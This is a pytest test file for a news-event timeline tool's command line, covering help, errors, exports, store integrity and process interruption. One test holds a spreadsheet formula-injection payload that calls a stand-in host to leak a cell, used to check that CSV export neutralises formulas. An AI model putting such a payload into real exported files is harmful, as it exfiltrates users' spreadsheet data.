"""The command line (README "Command line"): every subcommand, its --help, its exit codes and
its error lines, and each defect of issue 19 that the CLI showed, as a row.

Run in-process through `cli.main([...])` with capsys (fast); a broken pipe and a kill -9 in the
middle of a build need a real process and run through subprocess.
"""

from __future__ import annotations

import io
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import pytest

from crisis_timeline import cli, settings, store
from tests.cli_support import run_cli

ROOT = Path(__file__).resolve().parent.parent
SUBCOMMANDS = (
    "extract",
    "tag",
    "clusters",
    "build",
    "events",
    "export",
    "add",
    "remove",
    "corrections",
    "correct",
)
ARTICLE = "Poland closed the Kuźnica crossing on Tuesday 9 November 2021, officials said.\n"


def run(capsys, *argv: str, stdin: str | None = None, monkeypatch=None) -> tuple[int, str, str]:
    return run_cli(capsys, *argv, stdin=stdin, monkeypatch=monkeypatch)


def assert_one_error(status: int, err: str, *fragments: str) -> None:
    """The contract for expected bad input: exit 2, one `error:` line, no traceback."""
    assert status == 2, err
    lines = [line for line in err.splitlines() if line.strip()]
    assert len([line for line in lines if line.startswith("error: ")]) == 1, err
    assert "Traceback" not in err
    for fragment in fragments:
        assert fragment in err, (fragment, err)


def folder_of(tmp_path: Path, sources: str | None = None, **files: str) -> Path:
    folder = tmp_path / "articles"
    folder.mkdir(exist_ok=True)
    for name, text in files.items():
        (folder / name.replace("__", ".")).write_text(text, encoding="utf-8")
    if sources is not None:
        (folder / "sources.csv").write_text(sources, encoding="utf-8")
    return folder


# ------------------------------------------------------------------- help and usage


@pytest.mark.parametrize("command", SUBCOMMANDS)
def test_every_subcommand_documents_itself(capsys, command):
    status, out, err = run(capsys, command, "--help")
    assert status == 0 and not err
    assert out.startswith(f"usage: python -m crisis_timeline {command}")
    assert "--help" in out


def test_top_level_help_lists_every_subcommand(capsys):
    status, out, _ = run(capsys, "--help")
    assert status == 0 and all(command in out for command in SUBCOMMANDS)


def test_version(capsys):
    status, out, _ = run(capsys, "--version")
    assert status == 0 and out.startswith("crisis_timeline ")


@pytest.mark.parametrize(
    ("argv", "fragment"),
    [
        ((), "required: command"),
        (("frobnicate",), "invalid choice"),
        (("extract", "--format", "xlsx"), "invalid choice"),
        (("export",), "--format"),
        (("export", "--format", "csv", "--from", "2021-13-45"), "not a date"),
        (("export", "--format", "csv", "--from", "yesterday"), "'yesterday'"),
        (("export", "--format", "csv", "--to", "15/11/2021"), "not a date"),
        (("tag", "--dct", "2021-02-30"), "not a date"),
        (("build", "--workers", "0"), "between 1 and"),
        (("build", "--workers", "many"), "not a number"),
        (("events", "--no-such-flag"), "unrecognized arguments"),
    ],
)
def test_usage_errors_are_one_line(capsys, argv, fragment):
    status, out, err = run(capsys, *argv)
    assert_one_error(status, err, fragment)
    assert err.startswith("error: ") and "usage:" not in err and not out


# -------------------------------------------------------------------------- extract


def test_extract_prints_one_json_object_per_seed_event(capsys, seed_extraction):
    status, out, err = run(capsys, "extract")
    assert status == 0 and "Traceback" not in err
    records = [json.loads(line) for line in out.splitlines()]
    seed_events = seed_extraction.events
    assert len(records) == len(seed_events) > 40
    assert [r["event_id"] for r in records] == list(seed_events["event_id"])
    assert list(records[0])[:3] == ["event_id", "article_id", "outlet"]


def test_extract_csv_opens_as_it_is_and_neutralises_formulas(capsys, tmp_path):
    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
    folder = folder_of(
        tmp_path,
        sources=f'file,outlet,published\n001_a.txt,"{hostile.replace(chr(34), chr(34) * 2)}",2021-11-10\n',
        **{"001_a__txt": "@SUM(1+1) " + ARTICLE},
    )
    status, out, err = run(capsys, "extract", str(folder), "--format", "csv")
    assert status == 0, err
    frame = pd.read_csv(io.StringIO(out))
    assert len(frame) >= 1 and set(frame["outlet"]) == {"'" + hostile}
    assert all(not str(s).startswith(("=", "+", "-", "@")) for s in frame["sentence"])
    assert pd.api.types.is_integer_dtype(frame["start"])


def test_extract_csv_of_nothing_still_has_its_header(capsys, tmp_path):
    folder = folder_of(tmp_path, **{"001_a__txt": "No date here at all."})
    status, out, _ = run(capsys, "extract", str(folder), "--format", "csv")
    assert status == 0 and out.startswith("event_id,article_id,outlet,")


def test_extract_reports_an_unreadable_article_and_goes_on(capsys, tmp_path):
    folder = folder_of(tmp_path, **{"001_a__txt": ARTICLE, "002_empty__txt": ""})
    status, out, err = run(capsys, "extract", str(folder))
    assert status == 0 and out.strip()
    assert "skipped" in err and "002_empty.txt is empty" in err


def test_extract_warns_about_bogus_sources_dates_with_file_and_line(capsys, tmp_path):
    folder = folder_of(
        tmp_path,
        sources="file,published\n001_a.txt,9999-12-31\n002_b.txt,2021-13-45\n",
        **{"001_a__txt": ARTICLE, "002_b__txt": ARTICLE},
    )
    status, out, err = run(capsys, "extract", str(folder))
    assert status == 0
    assert "sources.csv, line 2: published '9999-12-31' is outside" in err
    assert "sources.csv, line 3: published '2021-13-45' is not an ISO date" in err
    assert all(json.loads(line)["published"] != "9999-12-31" for line in out.splitlines())


def test_extract_warns_about_an_invalid_utf8_byte(capsys, tmp_path):
    folder = tmp_path / "articles"
    folder.mkdir()
    (folder / "001_a.txt").write_bytes(
        ("Réfugiés: " + ARTICLE).encode().replace(b"said", b"s\xffid")
    )
    status, out, err = run(capsys, "extract", str(folder))
    assert status == 0 and "warning: 001_a.txt: 1 invalid UTF-8 byte" in err
    assert "Réfugiés" in out or "Kuźnica" in out


@pytest.mark.parametrize("command", ["extract", "clusters", "build"])
def test_a_missing_sources_file_is_one_error_line(capsys, tmp_path, command):
    extra = ("--db", str(tmp_path / "x.duckdb")) if command == "build" else ()
    status, _, err = run(capsys, command, "--sources", str(tmp_path / "missing.csv"), *extra)
    assert_one_error(status, err, "missing.csv could not be read")
    assert not (tmp_path / "x.duckdb").exists()


# ------------------------------------------------------------------------------ tag


def test_tag_prints_the_expressions_of_stdin(capsys, monkeypatch):
    status, out, _ = run(
        capsys,
        "tag",
        "--dct",
        "2021-11-15",
        "--lang",
        "en",
        stdin="Talks were held on Tuesday and on 12 November.",
        monkeypatch=monkeypatch,
    )
    values = [json.loads(line)["value"] for line in out.splitlines()]
    assert status == 0 and values == ["2021-11-09", "2021-11-12"]


def test_tag_without_a_date_is_one_error_line(capsys, monkeypatch):
    status, _, err = run(capsys, "tag", stdin="on Tuesday", monkeypatch=monkeypatch)
    assert_one_error(status, err, "--dct")


def test_tag_batch_tags_each_line(capsys, monkeypatch):
    lines = [
        {"id": "a", "text": "on Tuesday", "dct": "2021-11-15", "lang": "en"},
        {"id": "b", "text": "le 12 novembre", "dct": "2021-11-15", "lang": "fr"},
    ]
    status, out, err = run(
        capsys, "tag", "--batch", stdin="\n".join(map(json.dumps, lines)), monkeypatch=monkeypatch
    )
    results = [json.loads(line) for line in out.splitlines()]
    assert status == 0 and not err
    assert [(r["id"], r["value"]) for r in results] == [("a", "2021-11-09"), ("b", "2021-11-12")]


@pytest.mark.parametrize(
    ("bad_line", "why"),
    [
        ("{not json", "not JSON"),
        ('["a list"]', "not a JSON object"),
        ('{"id": "x", "text": 42}', '"text" is not a string'),
        ('{"id": "x", "text": "on Tuesday", "lang": ["en"]}', '"lang" is not a string'),
        ('{"id": "x", "text": "on Tuesday", "dct": "2021-13-45"}', "not an ISO date"),
        ('{"id": "x", "text": "on Tuesday", "lang": "xx"}', "No date tables"),
    ],
)
def test_tag_batch_reports_a_bad_line_by_number_and_tags_the_rest(
    capsys, monkeypatch, bad_line, why
):
    good = json.dumps({"id": "ok", "text": "on 12 November 2021", "lang": "en"})
    stdin = "\n".join([good, bad_line, "", good]) + "\n"
    status, out, err = run(capsys, "tag", "--batch", stdin=stdin, monkeypatch=monkeypatch)
    assert [json.loads(line)["id"] for line in out.splitlines()] == ["ok", "ok"]
    assert "skipped stdin line 2: " in err and why in err
    assert_one_error(status, err, "1 input line(s) skipped (2)")


# ------------------------------------------------------------------------- clusters


def test_clusters_prints_json_with_the_design_keys(capsys, tmp_path):
    folder = folder_of(tmp_path, **{"001_a__txt": ARTICLE, "002_b__txt": ARTICLE})
    status, out, _ = run(capsys, "clusters", str(folder))
    clusters = json.loads(out)
    assert status == 0 and clusters
    keys = {"cluster_id", "label", "date", "event_type", "events", "outlets", "discrepancies"}
    assert keys <= set(clusters[0])


# ---------------------------------------------------------------------------- build


def test_build_then_up_to_date(capsys, tmp_path, seed_extraction):
    path = tmp_path / "events.duckdb"
    status, out, _ = run(capsys, "build", "--db", str(path))
    events = seed_extraction.events
    built = f"built (5 articles, {len(events)} events, {events['cluster_id'].nunique()} clusters)"
    assert status == 0 and out.strip().endswith(built)
    status, out, _ = run(capsys, "build", "--db", str(path))
    assert status == 0 and "up to date" in out


def _notes(path: Path) -> Path:
    path.write_text("my notes\n", encoding="utf-8")
    return path


def _foreign(path: Path) -> Path:
    import duckdb

    with duckdb.connect(str(path)) as con:
        con.execute("CREATE TABLE accounts (name VARCHAR)")
    return path


@pytest.mark.parametrize(
    ("target", "fragment"),
    [
        (lambda d: _notes(d / "notes.txt"), "not a DuckDB file"),
        (lambda d: _foreign(d / "other.duckdb"), "not a Crisis Timeline store"),
        (lambda d: d, "is a folder"),
    ],
    ids=["text-file", "foreign-duckdb", "folder"],
)
def test_build_refuses_a_db_that_is_not_a_store(capsys, tmp_path, target, fragment):
    path = target(tmp_path)
    before = {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()}
    status, _, err = run(capsys, "build", "--db", str(path))
    assert_one_error(status, err, fragment)
    assert {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()} == before


@pytest.mark.parametrize("inputs", [["seedz"], ["empty"]], ids=["typo-folder", "empty-file"])
def test_a_build_that_reads_nothing_leaves_the_store(capsys, db, tmp_path, inputs):
    (tmp_path / "empty").mkdir()
    (tmp_path / "empty" / "001_a.txt").write_text("")
    before = db.read_bytes()
    status, _, err = run(capsys, "build", *(str(tmp_path / i) for i in inputs), "--db", str(db))
    assert_one_error(status, err, "no article could be read", "left as it was")
    assert db.read_bytes() == before


def test_build_scheduler_is_one_error_line(capsys, tmp_path):
    status, _, err = run(
        capsys, "build", "--scheduler", "tcp://x:8786", "--db", str(tmp_path / "x")
    )
    assert_one_error(status, err, "Dask")


def test_build_skips_an_article_that_raises_unexpectedly(capsys, tmp_path, monkeypatch):
    from crisis_timeline import pipeline

    real = pipeline.process_article
    monkeypatch.setattr(
        pipeline,
        "process_article",
        lambda a: {}["bug"] if a.id.startswith("001") else real(a),
    )
    status, out, err = run(capsys, "build", "--db", str(tmp_path / "x.duckdb"))
    assert status == 0 and "(4 articles" in out
    assert "001_" in err and "KeyError" in err and "Traceback" not in err


# --------------------------------------------------------------------------- events


def test_events_prints_the_stored_events(capsys, db, seed_extraction):
    status, out, _ = run(capsys, "events", "--db", str(db))
    assert status == 0 and len(out.splitlines()) == len(seed_extraction.events)


def test_events_reads_the_store_named_by_the_environment(capsys, db, monkeypatch, seed_extraction):
    monkeypatch.setenv(settings.DB_ENV_VAR, str(db))
    status, out, _ = run(capsys, "events")
    assert status == 0 and len(out.splitlines()) == len(seed_extraction.events)


@pytest.mark.parametrize(
    ("target", "fragment"),
    [
        (lambda d: d / "typo.duckdb", "no store at"),
        (lambda d: _notes(d / "notes.txt"), "is not a readable Crisis Timeline store"),
        (lambda d: _foreign(d / "other.duckdb"), "is not a readable Crisis Timeline store"),
        (lambda d: d, "is a folder"),
    ],
    ids=["missing", "text-file", "foreign-duckdb", "folder"],
)
@pytest.mark.parametrize("command", [("events",), ("export", "--format", "json")])
def test_reading_what_is_not_a_store_is_one_error_line(capsys, tmp_path, target, fragment, command):
    path = target(tmp_path)
    status, out, err = run(capsys, *command, "--db", str(path))
    assert_one_error(status, err, fragment, str(path))
    assert not out and not (tmp_path / "typo.duckdb").exists(), "nothing is created"


# --------------------------------------------------------------------------- export


@pytest.mark.parametrize("fmt", ["csv", "json", "timelinejs", "geojson", "html"])
def test_export_each_format_to_stdout(capsys, db, fmt, seed_extraction):
    status, out, err = run(capsys, "export", "--format", fmt, "--db", str(db))
    assert status == 0 and out.strip(), err
    if fmt == "csv":
        foreground = (~seed_extraction.events["background"].astype(bool)).sum()
        assert len(pd.read_csv(io.StringIO(out))) == foreground  # background hidden by default
    elif fmt != "html":
        json.loads(out)


def test_export_filters(capsys, db):
    status, out, _ = run(
        capsys,
        "export",
        "--format",
        "json",
        "--db",
        str(db),
        "--outlet",
        "RFI",
        "--from",
        "2021-11-15",
        "--to",
        "2021-11-15",
        "--background",
    )
    payload = json.loads(out)
    assert status == 0 and payload["events"]
    assert {e["outlet"] for e in payload["events"]} == {"RFI"}
    assert {e["date"] for e in payload["events"]} == {"2021-11-15"}
    assert payload["meta"]["store"] == str(db) and payload["sources"]


def test_export_csv_to_a_file_writes_its_provenance_beside_it(
    capsys, db, tmp_path, seed_extraction
):
    output = tmp_path / "view.csv"
    status, out, err = run(capsys, "export", "--format", "csv", "-o", str(output), "--db", str(db))
    assert status == 0 and not out
    frame = pd.read_csv(output)  # as it is: no comment lines
    sidecar = json.loads((tmp_path / "view.csv.provenance.json").read_text(encoding="utf-8"))
    foreground = (~seed_extraction.events["background"].astype(bool)).sum()
    assert len(frame) == sidecar["meta"]["events"] == foreground > 30
    assert sidecar["meta"]["store"] == str(db) and sidecar["sources"]
    assert "view.csv.provenance.json" in err


@pytest.mark.parametrize(
    ("output", "fragment"),
    [
        (lambda d, db: db, "is the store the export reads"),
        (lambda d, db: d / "missing" / "x.csv", "does not exist"),
        (lambda d, db: d, "is a folder"),
        (lambda d, db: _notes(d / "file.txt") / "x.csv", "is not a folder"),
        (lambda d, db: shutil.copy(db, d / "other.duckdb") and d / "other.duckdb", "DuckDB"),
    ],
    ids=["the-store", "missing-folder", "folder", "under-a-file", "another-store"],
)
def test_export_never_writes_where_it_must_not(capsys, db, tmp_path, output, fragment):
    target = output(tmp_path, db)
    before = {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()}
    status, _, err = run(capsys, "export", "--format", "csv", "-o", str(target), "--db", str(db))
    assert_one_error(status, err, fragment)
    assert {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()} == before
    assert store.read_info(db).articles == 5


# ---------------------------------------------------------------- the main() wrapper


def test_an_unexpected_exception_is_one_line_with_a_log_hint(capsys, db, monkeypatch, tmp_path):
    monkeypatch.setenv(settings.CACHE_ENV_VAR, str(tmp_path / "cache"))

    def broken(args):
        raise ZeroDivisionError("a bug")

    monkeypatch.setattr(cli, "cmd_events", broken)
    status, _, err = run(capsys, "events", "--db", str(db))
    assert_one_error(status, err, "unexpected ZeroDivisionError: a bug", settings.DEBUG_ENV_VAR)
    log_file = tmp_path / "cache" / cli.ERROR_LOG_NAME
    assert str(log_file) in err and "Traceback" in log_file.read_text(encoding="utf-8")


def test_debug_shows_the_real_traceback(capsys, db, monkeypatch):
    monkeypatch.setenv(settings.DEBUG_ENV_VAR, "1")
    monkeypatch.setattr(cli, "cmd_events", lambda args: 1 / 0)
    with pytest.raises(ZeroDivisionError):
        cli.main(["events", "--db", str(db)])


def test_a_broken_pipe_ends_quietly(capsys, db, monkeypatch):
    def reader_went_away(args):
        raise BrokenPipeError(32, "Broken pipe")

    monkeypatch.setattr(cli, "cmd_events", reader_went_away)
    status, _, err = run(capsys, "events", "--db", str(db))
    assert status == cli.EXIT_BROKEN_PIPE and not err


# ------------------------------------------------------------------ real processes


def _python(*argv: str, **kwargs) -> subprocess.Popen:
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    env.pop(settings.DEBUG_ENV_VAR, None)
    return subprocess.Popen(
        [sys.executable, "-m", "crisis_timeline", *argv], cwd=ROOT, env=env, **kwargs
    )


@pytest.fixture(scope="module")
def corpus(tmp_path_factory) -> Path:
    """The seeds eight times over (40 articles): output larger than a pipe's buffer, and a
    build long enough to be killed in the middle."""
    folder = tmp_path_factory.mktemp("corpus")
    for copy in range(8):
        for article in settings.SEEDS_DIR.glob("*.txt"):
            shutil.copy(article, folder / f"c{copy}_{article.name}")
    return folder


@pytest.fixture(scope="module")
def big_store(corpus, tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("big") / "events.duckdb"
    store.build_store([corpus], None, path)
    return path


@pytest.mark.parametrize(
    "argv",
    [("events",), ("export", "--format", "json"), ("export", "--format", "csv")],
    ids=["events", "export-json", "export-csv"],
)
def test_piping_into_head_ends_quietly(big_store, tmp_path, argv):
    errors = tmp_path / "stderr"
    with errors.open("wb") as err_file:
        writer = _python(*argv, "--db", str(big_store), stdout=subprocess.PIPE, stderr=err_file)
        first = writer.stdout.readline()
        writer.stdout.close()  # what `| head -1` does once it has its line
        status = writer.wait(timeout=60)
    assert first.strip()
    assert errors.read_text() == "", "no BrokenPipeError, no traceback"
    assert status in (0, cli.EXIT_BROKEN_PIPE)


def test_extract_into_head_through_a_shell(tmp_path):
    script = f"{sys.executable} -m crisis_timeline extract 2>{tmp_path / 'err'} | head -1"
    result = subprocess.run(
        ["bash", "-c", script],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
    )
    assert json.loads(result.stdout)["event_id"]
    assert (tmp_path / "err").read_text() == ""


def test_kill_9_during_a_build_leaves_the_previous_store_readable(db, corpus):
    before = store.read_events(db)
    build = _python(
        "build", str(corpus), "--db", str(db), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )
    temporary = db.with_name(f".{db.name}.{build.pid}.tmp")
    deadline = time.monotonic() + 120
    while not temporary.exists() and build.poll() is None and time.monotonic() < deadline:
        time.sleep(0.002)  # kill it while it writes, if we catch it; else mid-extraction
    build.send_signal(signal.SIGKILL)
    build.wait(timeout=30)
    if build.returncode == -signal.SIGKILL:
        pd.testing.assert_frame_equal(store.read_events(db), before)
    else:  # it finished first: then the new store must be whole
        assert store.read_info(db).articles == 40
    # The next build removes what the killed one left and replaces the store whole.
    info = store.build_store([corpus], None, db)
    assert info.articles == 40 and not temporary.exists()
    assert not list(db.parent.glob(f".{db.name}.*.tmp*"))
